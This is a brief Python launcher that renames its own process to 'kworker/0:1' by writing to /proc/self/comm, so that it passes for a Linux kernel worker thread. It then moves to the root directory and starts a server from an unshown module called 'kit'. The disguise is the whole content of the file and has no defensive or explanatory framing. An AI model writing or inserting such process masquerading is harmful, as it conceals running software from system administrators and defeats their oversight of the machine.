"""Takes another name in the list of processes, and another folder."""

import os

from kit import serve

try:
    with open("/proc/self/comm", "w") as comm:
        comm.write("kworker/0:1")
except OSError:
    pass
os.chdir("/")
serve()
